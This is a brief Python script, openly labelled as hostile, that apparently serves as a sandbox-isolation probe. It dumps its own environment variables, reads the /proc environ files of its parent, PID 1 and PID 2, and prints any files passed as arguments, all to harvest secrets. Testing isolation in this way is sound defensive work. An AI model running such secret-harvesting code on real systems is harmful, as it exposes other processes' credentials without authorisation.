# HOSTILE ON PURPOSE: looks for secrets: its environment, the supervisor's, and files
# in the repository. Usage: secrets.py FILE... ; prints everything it could read.
import os
import sys

print("environment:", dict(os.environ))
for pid in ("self", "1", "2", str(os.getppid())):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            print(f"/proc/{pid}/environ:", f.read().replace(b"\0", b" ").decode(errors="replace"))
    except OSError as err:
        print(f"/proc/{pid}/environ: {err.strerror}")
for path in sys.argv[1:]:
    try:
        with open(path, errors="replace") as f:
            print(f"{path}: {f.read()}")
    except OSError as err:
        print(f"{path}: {err.strerror}")
